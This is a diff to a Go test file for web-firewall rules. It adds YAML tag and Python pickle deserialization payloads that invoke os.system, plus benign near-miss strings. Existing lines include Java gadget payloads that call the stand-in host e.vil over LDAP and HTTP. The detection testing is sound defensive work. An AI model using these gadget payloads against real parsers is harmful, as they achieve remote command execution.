@@ -30,6 +30,10 @@ var yamlAttacks = []string{
 	"!<tag:yaml.org,2002:python/object/apply:os.system> [id]", "--- !ruby/object:Gem::Installer\ni: x",
 	"!ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection", "x: !!com.sun.rowset.JdbcRowSetImpl\n  dataSourceName: ldap://e.vil/x",
 	"!!org.springframework.context.support.FileSystemXmlApplicationContext [\"http://e.vil/x.xml\"]",
+	// attack 18's: a %TAG directive, an anchor before the tag, a complex
+	// key, a list item's anchor, a verbatim tag
+	"%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:os.system [\"id\"]", "x: &a !!python/object/apply:os.system [\"id\"]",
+	"? !!python/object/apply:os.system [\"id\"]\n: 1", "- &a !ruby/object:Gem::Installer\n  i: x", "x: !<!ruby/object:Gem::Installer>\n  i: x",
 }
 
 // gadgetJSONAttacks are attack 16's B12: Jackson's and Fastjson's
@@ -66,6 +70,11 @@ var serializedAttacks = []string{
 	base64.StdEncoding.EncodeToString([]byte(javaSerialized)), base64.URLEncoding.EncodeToString([]byte(javaSerialized)),
 	"aced0005737200326a6176612e7574696c2e5072696f72697479517565756594da30b4fb3f82b103000249",
 	"AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0sIFZlcnNpb249NC4wLjAuMA==", "AAEAAAD_____AQAAAAAAAAAMAgAAAElTeXN0ZW0",
+	// attack 18's: raw protocol 0 that starts with MARK and INST, its
+	// base64, protocol 2 with MARK, protocol 4 without FRAME, a leading
+	// character Python's b64decode drops
+	"(S'echo PWN'\nios\nsystem\n.", "KFMnZWNobyBQV04nCmlvcwpzeXN0ZW0KLg==", "gAIoWAgAAABlY2hvIFBXTmlvcwpzeXN0ZW0KLg==",
+	"gASMBXBvc2l4jAZzeXN0ZW2TjAhlY2hvIFBXToVSLg==", "!gAJjcG9zaXgKc3lzdGVtCnEAWAgAAABlY2hvIFBXToVSLg==",
 }
 
 // gadgetBenign are near-misses of rules 210136 to 210138.
@@ -78,6 +87,9 @@ var gadgetBenign = []string{
 	// attack 17's false positives: prose that names a YAML tag
 	"Rails 7.1 complains about !ruby/object:ActiveSupport::HashWithIndifferentAccess in my fixtures, how do I fix it?",
 	"SnakeYAML output has !!com.example.config.AppConfig at the top, can I drop the tag?",
+	// attack 18's closing kept these passing: platforms in a list, a
+	// mention of a tag after an anchor's name in prose
+	"ios\nandroid\nweb", "(Very nice)\nios\nandroid\n", "Is &a !!python/object/apply: dangerous?",
 }
 
 // TestGadgetsBeyondTheCRS: rules 210136 to 210138 refuse attack 16's B8
